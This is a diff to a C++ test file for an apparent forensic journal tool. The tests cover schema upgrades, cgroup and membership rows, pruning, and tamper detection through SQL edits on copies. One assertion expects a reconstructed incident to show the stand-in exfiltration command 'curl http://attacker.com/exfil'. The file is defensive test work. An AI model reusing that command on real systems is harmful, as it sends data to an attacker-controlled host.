@@ -640,9 +640,107 @@ TEST_CASE("a version 1 journal verifies and reads as it is, and record upgrades 
     }
     JournalVerdict v = verify(dir / "j.db");
     INFO(describe(v));
-    CHECK(v.user_version == 2);
+    CHECK(v.user_version == kJournalSchemaVersion);
     CHECK(v.status() == "whole");
     CHECK(v.runs.size() == 2);
+}
+
+namespace {
+// A row of each version 3 table, as the recorder writes them: a cgroup and
+// a process moved into it.
+void add_membership_rows(JournalWriter& w, uint64_t t) {
+    CgroupRow cg;
+    cg.hierarchy = 0;
+    cg.cgroup_id = 7001;
+    cg.path = "/kubepods/besteffort/pod7c9e6679-7425-40de-944b-e07fc1f90ae7/4f1a2b3c4d5e";
+    cg.pod_uid = "7c9e6679-7425-40de-944b-e07fc1f90ae7";
+    cg.container_id = "4f1a2b3c4d5e";
+    REQUIRE(w.add_cgroup(cg).ok());
+    MembershipRow m;
+    m.time_ns = static_cast<int64_t>(t);
+    m.proc = {9100, t - 5'000'000};
+    m.how = MembershipHow::move;
+    m.cgroup_id = cg.cgroup_id;
+    m.pod_uid = cg.pod_uid;
+    m.by = {9101, t - 9'000'000};
+    m.comm = "sleep";
+    REQUIRE(w.add_membership(m).ok());
+}
+}  // namespace
+
+TEST_CASE("a version 2 journal with a prune verifies and reads as it is, and stays whole once upgraded",
+          "[verify][journal]") {
+    TempDir dir;
+    // Written by lineage at e6e2eb6 (schema version 2): the incident fixture
+    // and a prune of its first batch (testdata/journals/README.md).
+    const std::string v2 = std::string(LINEAGE_SOURCE_DIR) + "/testdata/journals/v2-incident-pruned.journal";
+    {
+        JournalVerdict v = verify(v2);
+        INFO(describe(v));
+        CHECK(v.user_version == 2);
+        CHECK(v.status() == "whole");
+        RunResult r = run_lineage({"reconstruct", "--journal", v2, "--pod", "my-app-6d4f9-xk2p1"}, dir.path());
+        INFO(r.err);
+        CHECK(r.status == 0);
+        CHECK(r.out.find("pod production/my-app-6d4f9-xk2p1") != std::string::npos);
+        CHECK(r.out.find("curl http://attacker.com/exfil") != std::string::npos);
+    }
+    std::filesystem::copy_file(v2, dir / "j.db");
+    std::filesystem::permissions(dir / "j.db",
+                                 std::filesystem::perms::owner_read | std::filesystem::perms::owner_write);
+    {
+        // record appends: the journal is upgraded (the version 3 tables
+        // created), and a run writes rows of them; then retention prunes
+        // again, over the cgroups row it keeps.
+        auto w = JournalWriter::open(dir / "j.db");
+        REQUIRE(w.ok());
+        CHECK(w->head().batch_id == 6);
+        RunInfo info = run_info(5'000'000'000'000);
+        info.boot_id = "b0000000-0000-4000-8000-000000000001";
+        REQUIRE(w->begin_run(info).ok());
+        uint32_t pid = 9000;
+        uint64_t t = 5'000'000'000'000;
+        add_membership_rows(*w, t);
+        write_event_batch(*w, pid, t, 1);
+        write_event_batch(*w, pid, t, 2);
+        auto pruned = w->prune_through(w->head().batch_id - 1, "max-size", static_cast<int64_t>(t + 1'000'000));
+        REQUIRE(pruned.ok());
+    }
+    JournalVerdict v = verify(dir / "j.db");
+    INFO(describe(v));
+    CHECK(v.user_version == 3);
+    CHECK(v.status() == "whole");
+    CHECK(v.runs.size() == 2);
+    // The cgroups row outlived the prune of its batch, and the digest covers it.
+    Copy tampered(dir / "j.db", dir / "t.db");
+    tampered.sql("UPDATE cgroups SET path = CAST('/elsewhere' AS BLOB)");
+    JournalVerdict t = verify(tampered.path);
+    INFO(describe(t));
+    CHECK(t.status() == "tampered");
+}
+
+TEST_CASE("memberships and cgroups rows are in the hash chain", "[verify][journal]") {
+    TempDir dir;
+    const std::string path = dir / "j.db";
+    {
+        auto w = JournalWriter::open(path);
+        REQUIRE(w.ok());
+        REQUIRE(w->begin_run(run_info(1'000'000'000'000)).ok());
+        add_membership_rows(*w, 1'000'100'000'000);
+        REQUIRE(w->commit(1'000'200'000'000).ok());
+    }
+    CHECK(verify(path).status() == "whole");
+    for (const std::string& edit :
+         {std::string("UPDATE memberships SET pod_uid = ''"), std::string("UPDATE memberships SET how = 'fork'"),
+          std::string("UPDATE cgroups SET container_id = 'ffffffffffff'"), std::string("DELETE FROM memberships")}) {
+        INFO(edit);
+        Copy c(path, dir / "c.db");
+        c.sql(edit);
+        JournalVerdict v = verify(c.path);
+        INFO(describe(v));
+        CHECK(v.status() == "tampered");
+        std::filesystem::remove(c.path);
+    }
 }
 
 TEST_CASE("the compiled schema is loaded once, and a schema that cannot be loaded is a finding", "[verify]") {
@@ -668,10 +766,25 @@ TEST_CASE("the compiled schema is loaded once, and a schema that cannot be loade
     verify_detail::SchemaDefs have;
     while (stmt->step() == SQLITE_ROW) have[stmt->text(1)] = {stmt->text(0), normalized_sql(stmt->text(2))};
     CHECK(verify_detail::schema_findings(compiled, have, kJournalSchemaVersion).empty());
-    // A version 1 journal has no prunes table; this one has one too many.
-    auto v1 = verify_detail::schema_findings(compiled, have, 1);
-    REQUIRE(v1.size() == 1);
-    CHECK(v1[0].detail == "table prunes is not part of the schema");
+    // A version 2 journal has no cgroups and memberships tables, nor their
+    // indexes; this one has them too many.
+    auto details = [](const std::vector<Finding>& findings) {
+        std::set<std::string> out;
+        for (const auto& f : findings) out.insert(f.detail);
+        return out;
+    };
+    const std::set<std::string> v3_objects = {
+        "table cgroups is not part of the schema",
+        "table memberships is not part of the schema",
+        "index cgroups_by_id is not part of the schema",
+        "index memberships_by_proc is not part of the schema",
+        "index memberships_by_pod is not part of the schema",
+    };
+    CHECK(details(verify_detail::schema_findings(compiled, have, 2)) == v3_objects);
+    // A version 1 journal has no prunes table either.
+    std::set<std::string> v1_objects = v3_objects;
+    v1_objects.insert("table prunes is not part of the schema");
+    CHECK(details(verify_detail::schema_findings(compiled, have, 1)) == v1_objects);
 
     // Never a silent pass: nothing to compare with is a finding of its own.
     const Result<std::vector<SchemaObject>> failed = Error{"the compiled-in schema cannot be loaded: out of memory"};
